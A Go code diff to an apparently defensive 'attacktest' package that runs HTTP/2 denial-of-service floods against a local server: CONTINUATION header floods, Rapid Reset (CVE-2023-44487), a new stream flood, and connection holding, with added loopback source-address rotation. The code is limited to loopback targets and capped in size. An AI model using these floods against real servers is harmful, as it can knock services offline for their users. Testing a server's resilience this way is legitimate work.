@@ -34,6 +34,17 @@ type Target struct {
 	// TLS is the client TLS configuration (certificate, roots). NextProtos
 	// is set to h2.
 	TLS *tls.Config
+	// Source, when set, is the loopback IP address to connect from (Linux
+	// answers on all of 127.0.0.0/8): another source address.
+	Source string
+}
+
+func (t Target) dialer() *net.Dialer {
+	d := &net.Dialer{Timeout: 10 * time.Second}
+	if t.Source != "" {
+		d.LocalAddr = &net.TCPAddr{IP: net.ParseIP(t.Source)}
+	}
+	return d
 }
 
 // ErrNotLoopback refuses a target that is not on this host.
@@ -45,6 +56,9 @@ func (t Target) check() error {
 		return fmt.Errorf("attacktest: %w", err)
 	}
 	if ip := net.ParseIP(host); host != "localhost" && (ip == nil || !ip.IsLoopback()) {
+		return ErrNotLoopback
+	}
+	if ip := net.ParseIP(t.Source); t.Source != "" && (ip == nil || !ip.IsLoopback()) {
 		return ErrNotLoopback
 	}
 	return nil
@@ -78,7 +92,7 @@ func dial(ctx context.Context, t Target) (*conn, error) {
 	}
 	cfg := t.TLS.Clone()
 	cfg.NextProtos = []string{"h2"}
-	d := tls.Dialer{Config: cfg}
+	d := tls.Dialer{NetDialer: t.dialer(), Config: cfg}
 	nc, err := d.DialContext(ctx, "tcp", t.Addr)
 	if err != nil {
 		return nil, err
@@ -167,9 +181,11 @@ func requestHeaders(authority, method string, filler int) []byte {
 }
 
 // writeHeaders sends a header block on stream id, split into HEADERS and
-// CONTINUATION frames of at most 16 KiB.
-func (c *conn) writeHeaders(id uint32, block []byte, endStream bool) error {
-	return c.write(func() error {
+// CONTINUATION frames of at most 16 KiB. It returns how much of the block
+// was written before an error.
+func (c *conn) writeHeaders(id uint32, block []byte, endStream bool) (int, error) {
+	written := 0
+	err := c.write(func() error {
 		const max = 16 << 10
 		first := block[:min(max, len(block))]
 		rest := block[len(first):]
@@ -177,22 +193,27 @@ func (c *conn) writeHeaders(id uint32, block []byte, endStream bool) error {
 			EndHeaders: len(rest) == 0, EndStream: endStream}); err != nil {
 			return err
 		}
+		written += len(first)
 		for len(rest) > 0 {
 			chunk := rest[:min(max, len(rest))]
 			rest = rest[len(chunk):]
 			if err := c.fr.WriteContinuation(id, len(rest) == 0, chunk); err != nil {
 				return err
 			}
+			written += len(chunk)
 		}
 		return nil
 	})
+	return written, err
 }
 
 // HeaderFloodResult is what HeaderFlood did.
 type HeaderFloodResult struct {
 	Streams     int   // streams whose headers were sent (completely or until the server cut them)
 	Connections int   // connections used: the server may close one mid-flood
-	BytesSent   int64 // header block bytes written
+	BytesSent   int64 // header block bytes written (the server may stop reading before the rest)
+	Cut         int   // streams whose headers could not all be written: the server closed the connection
+	LastError   string
 }
 
 // HeaderFlood opens streams (at most 1,000) on one connection, each with a
@@ -224,14 +245,18 @@ func HeaderFlood(ctx context.Context, t Target, streams, headerBytes int) (Heade
 			stop := context.AfterFunc(ctx, func() { _ = cc.tc.SetDeadline(time.Now()) })
 			defer stop()
 		}
-		err := c.writeHeaders(id, block, false)
+		n, err := c.writeHeaders(id, block, false)
 		res.Streams++
+		res.BytesSent += int64(n)
 		if err != nil {
+			res.Cut++
+			if res.LastError == "" || res.Cut == 1 {
+				res.LastError = err.Error()
+			}
 			c.close()
 			c = nil
 			continue
 		}
-		res.BytesSent += int64(len(block))
 		id += 2
 	}
 	return res, ctx.Err()
@@ -248,9 +273,21 @@ type RapidResetResult struct {
 // pairs on one connection as fast as it can (CVE-2023-44487), until the
 // server sends GOAWAY or closes the connection, or ctx ends.
 func RapidReset(ctx context.Context, t Target, pairs int) (RapidResetResult, error) {
+	return flood(ctx, t, pairs, true)
+}
+
+// StreamFlood opens up to n (at most 1,000,000) streams on one connection
+// as fast as it can, each a complete Health/Check call without a message
+// (HEADERS with END_STREAM), never cancelling one, until the server sends
+// GOAWAY or closes the connection, or ctx ends. Pairs counts the streams.
+func StreamFlood(ctx context.Context, t Target, n int) (RapidResetResult, error) {
+	return flood(ctx, t, n, false)
+}
+
+func flood(ctx context.Context, t Target, pairs int, reset bool) (RapidResetResult, error) {
 	var res RapidResetResult
 	if pairs > 1_000_000 {
-		return res, errors.New("attacktest: RapidReset is bounded to 1,000,000 pairs")
+		return res, errors.New("attacktest: floods are bounded to 1,000,000 streams")
 	}
 	c, err := dial(ctx, t)
 	if err != nil {
@@ -274,8 +311,11 @@ func RapidReset(ctx context.Context, t Target, pairs int) (RapidResetResult, err
 		default:
 		}
 		err := c.write(func() error {
-			if err := c.fr.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: block, EndHeaders: true}); err != nil {
+			if err := c.fr.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: block, EndHeaders: true, EndStream: !reset}); err != nil {
 				return err
+			}
+			if !reset {
+				return nil
 			}
 			return c.fr.WriteRSTStream(id, http2.ErrCodeCancel)
 		})
@@ -309,7 +349,7 @@ func SilentStreams(ctx context.Context, t Target, method string, n int) ([]strin
 	defer c.close()
 	block := requestHeaders(t.Addr, method, 0)
 	for i := range n {
-		if err := c.writeHeaders(uint32(2*i+1), block, false); err != nil {
+		if _, err := c.writeHeaders(uint32(2*i+1), block, false); err != nil {
 			return nil, err
 		}
 	}
@@ -359,7 +399,7 @@ func Hold(ctx context.Context, t Target, n int, settle time.Duration) (held []ne
 	if n > 20000 {
 		return nil, 0, errors.New("attacktest: Hold is bounded to 20,000 connections")
 	}
-	var d net.Dialer
+	d := t.dialer()
 	var open []net.Conn
 	for range n {
 		if ctx.Err() != nil {
